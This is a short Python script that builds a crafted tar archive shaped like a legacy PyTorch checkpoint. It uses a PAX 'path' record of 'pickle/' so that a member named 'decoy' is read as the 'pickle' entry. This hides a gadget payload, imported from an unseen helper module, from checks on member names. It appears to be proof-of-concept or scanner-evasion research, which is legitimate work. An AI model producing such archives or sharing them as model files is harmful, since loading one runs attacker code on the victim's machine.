# pax 'path' record "pickle/" on a regular member: tarfile's _apply_pax_info strips trailing '/' -> 'pickle'.
import sys; import os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); from tarlib import *
out = sys.argv[1]; h = len(sys.argv) > 2
f = member(b'storages', STORAGES0) + member(b'tensors', TENSORS0) + pax([(b'path', b'pickle/')]) \
    + member_gadget(b"decoy", payload(h)) + end()
open(out, 'wb').write(f)
